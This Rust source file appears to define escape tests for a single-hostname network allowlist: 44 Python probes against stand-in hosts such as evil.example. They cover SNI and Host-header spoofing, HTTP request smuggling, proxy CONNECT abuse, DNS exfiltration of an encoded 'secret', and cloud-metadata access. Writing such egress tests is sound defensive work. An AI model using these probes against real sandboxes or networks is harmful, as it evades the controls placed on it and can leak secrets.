//! Ways out of a list of one name: each a script that succeeds where it gets out.

/// A way that a session without a list has, too.
pub(super) const OPEN: bool = true;
/// One that there is no counterpart of: through the forwarder itself, or by what this machine may not have.
pub(super) const OWN: bool = false;

/// What the scripts share. `got(…)` ends well if the other side has said something.
pub(super) const PRELUDE: &str = r#"
import socket, ssl, struct, sys, os
socket.setdefaulttimeout(3)
NAME = "api.test.example"
def tcp(host, port): return socket.create_connection((host, port))
def got(s, said=b""):
    if said: s.sendall(said)
    sys.exit(0 if s.recv(4096) else 1)
def answered(s, said, times=1):
    s.sendall(said)
    all = b""
    while all.count(b"200 OK") < times:
        more = s.recv(4096)
        if not more: sys.exit(1)
        all += more
    sys.exit(0)
def udp(host, port, said, family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_DGRAM)
    s.sendto(said, (host, port))
    sys.exit(0 if s.recv(4096) else 1)
def question(name, kind):
    labels = b"".join(bytes([len(l)]) + l.encode() for l in name.split("."))
    return b"\x12\x34\1\0\0\1\0\0\0\0\0\0" + labels + b"\0" + struct.pack(">HH", kind, 1)
def hello(name):
    context = ssl._create_unverified_context()
    inward, outward = ssl.MemoryBIO(), ssl.MemoryBIO()
    client = context.wrap_bio(inward, outward, server_hostname=name)
    try: client.do_handshake()
    except ssl.SSLWantReadError: pass
    return outward.read()
def tls(s, name):
    got(ssl._create_unverified_context().wrap_socket(s, server_hostname=name), b"GET / HTTP/1.1\r\nHost: " + (name or NAME).encode() + b"\r\n\r\n")
def resolver(): return [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")][0]
def proxy(head): s = tcp("198.18.0.1", 3128); s.sendall(head.encode() + b"\r\n\r\n"); return s
"#;

pub(super) const WAYS: [(&str, bool, &str); 44] = [
    ("another name by TLS", OPEN, r#"tls(tcp("evil.example", 443), "evil.example")"#),
    (
        "another name by HTTP",
        OPEN,
        r#"got(tcp("evil.example", 80), b"GET / HTTP/1.1\r\nHost: evil.example\r\n\r\n")"#,
    ),
    ("a name below", OPEN, r#"socket.getaddrinfo("x." + NAME, 443)"#),
    ("a name above", OPEN, r#"socket.getaddrinfo("test.example", 443)"#),
    ("another address", OPEN, r#"tls(tcp("203.0.113.20", 443), "evil.example")"#),
    ("the name's own address", OPEN, r#"tls(tcp("203.0.113.10", 443), NAME)"#),
    ("another port", OPEN, r#"got(tcp(NAME, 8080), b"GET / HTTP/1.1\r\nHost: evil.example\r\n\r\n")"#),
    ("the port of ssh", OPEN, r#"got(tcp(NAME, 22), b"evil\r\n")"#),
    ("another port with TLS", OPEN, r"tls(tcp(NAME, 8443), NAME)"),
    ("TLS that names another", OPEN, r#"tls(tcp(NAME, 443), "evil.example")"#),
    ("TLS that names nobody", OPEN, r"tls(tcp(NAME, 443), None)"),
    (
        "TLS that names another, byte by byte",
        OPEN,
        r#"said = hello("evil.example")[5:]; got(tcp(NAME, 443), b"".join(b"\x16\3\1\0\1" + said[i:i+1] for i in range(len(said))))"#,
    ),
    (
        "TLS that names another, at the port of HTTP",
        OPEN,
        r#"s = tcp(NAME, 80); s.sendall(hello("evil.example")); got(s)"#,
    ),
    ("HTTP for another", OPEN, r#"got(tcp(NAME, 80), b"GET / HTTP/1.1\r\nHost: evil.example\r\n\r\n")"#),
    ("HTTP for nobody", OPEN, r#"got(tcp(NAME, 80), b"GET / HTTP/1.0\r\nX: evil\r\n\r\n")"#),
    (
        "HTTP for two",
        OPEN,
        r#"got(tcp(NAME, 80), b"GET / HTTP/1.1\r\nHost: api.test.example\r\nHost: evil.example\r\n\r\n")"#,
    ),
    (
        "HTTP with another in its first line",
        OPEN,
        r#"got(tcp(NAME, 80), b"GET http://evil.example/ HTTP/1.1\r\nHost: api.test.example\r\n\r\n")"#,
    ),
    (
        "HTTP with a folded field",
        OPEN,
        r#"got(tcp(NAME, 80), b"GET / HTTP/1.1\r\nHost: api.test.example\r\n evil.example\r\n\r\n")"#,
    ),
    ("HTTP with bare newlines", OPEN, r#"got(tcp(NAME, 80), b"GET / HTTP/1.1\nHost: evil.example\n\n")"#),
    (
        "HTTP behind an empty line",
        OPEN,
        r#"got(tcp(NAME, 80), b"\r\nGET / HTTP/1.1\r\nHost: evil.example\r\n\r\n")"#,
    ),
    ("HTTP/2 without TLS", OPEN, r#"got(tcp(NAME, 80), b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\nevil")"#),
    (
        "a second request for another",
        OPEN,
        r#"answered(tcp(NAME, 80), b"GET / HTTP/1.1\r\nHost: api.test.example\r\n\r\n" + b" " * 8192 + b"GET / HTTP/1.1\r\nHost: evil.example\r\n\r\n", 2)"#,
    ),
    (
        "a request for another in a body without a length",
        OPEN,
        r#"got(tcp(NAME, 80), b"POST / HTTP/1.1\r\nHost: api.test.example\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET / HTTP/1.1\r\nHost: evil.example\r\n\r\n")"#,
    ),
    (
        "a request for another behind a body of two lengths",
        OPEN,
        r#"got(tcp(NAME, 80), b"POST / HTTP/1.1\r\nHost: api.test.example\r\nContent-Length: 0\r\nContent-Length: 50\r\n\r\nGET / HTTP/1.1\r\nHost: evil.example\r\n\r\n")"#,
    ),
    (
        "HTTP at the port of TLS",
        OPEN,
        r#"got(tcp(NAME, 443), b"GET / HTTP/1.1\r\nHost: evil.example\r\n\r\n")"#,
    ),
    ("another protocol at the port of TLS", OPEN, r#"got(tcp(NAME, 443), b"SSH-2.0-evil\r\n")"#),
    (
        "a proxy's request at the port of HTTP",
        OPEN,
        r#"got(tcp(NAME, 80), b"CONNECT evil.example:443 HTTP/1.1\r\nHost: api.test.example\r\n\r\n")"#,
    ),
    (
        "the proxy, to another name",
        OWN,
        r#"assert b" 200 " in proxy("CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example").recv(99)"#,
    ),
    (
        "the proxy, to an address",
        OWN,
        r#"assert b" 200 " in proxy("CONNECT 203.0.113.20:443 HTTP/1.1\r\nHost: a").recv(99)"#,
    ),
    (
        "the proxy, to itself",
        OWN,
        r#"assert b" 200 " in proxy("CONNECT 198.18.0.1:3128 HTTP/1.1\r\nHost: a").recv(99)"#,
    ),
    (
        "the proxy, to another port",
        OWN,
        r#"assert b" 200 " in proxy("CONNECT api.test.example:22 HTTP/1.1\r\nHost: a").recv(99)"#,
    ),
    (
        "the proxy, and then TLS that names another",
        OWN,
        r#"s = proxy("CONNECT api.test.example:443 HTTP/1.1\r\nHost: a"); s.recv(99); tls(s, "evil.example")"#,
    ),
    (
        "the proxy, with a request of HTTP",
        OWN,
        r#"assert b" 200 " in proxy("GET http://evil.example/ HTTP/1.1\r\nHost: evil.example").recv(99)"#,
    ),
    ("a redirection", OPEN, r#"sys.exit(os.system("curl -sSfL http://api.test.example/moved") != 0)"#),
    ("a question that carries a secret", OPEN, r#"socket.getaddrinfo("c2VjcmV0.evil.example", 443)"#),
    (
        "a question for a text",
        OPEN,
        r#"a = None; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(question("c2VjcmV0.evil.example", 16), (resolver(), 53)); s.recv(512)"#,
    ),
    ("another nameserver", OPEN, r#"udp("203.0.113.53", 53, question("c2VjcmV0.evil.example", 1))"#),
    ("datagrams to another address", OPEN, r#"udp("203.0.113.20", 9999, b"evil")"#),
    ("datagrams to the name", OPEN, r#"udp(NAME, 443, b"evil")"#),
    ("echoes", OPEN, r#"sys.exit(os.system("ping -c 1 -W 2 203.0.113.20") != 0)"#),
    ("IPv6", OWN, r#"tcp("2606:4700::1111", 443)"#),
    ("the cloud's metadata", OWN, r#"tcp("169.254.169.254", 80)"#),
    ("the daemon", OWN, r"tcp(DAEMON, 53)"),
    ("a packet of its own making", OWN, r"socket.socket(socket.AF_PACKET, socket.SOCK_RAW)"),
];
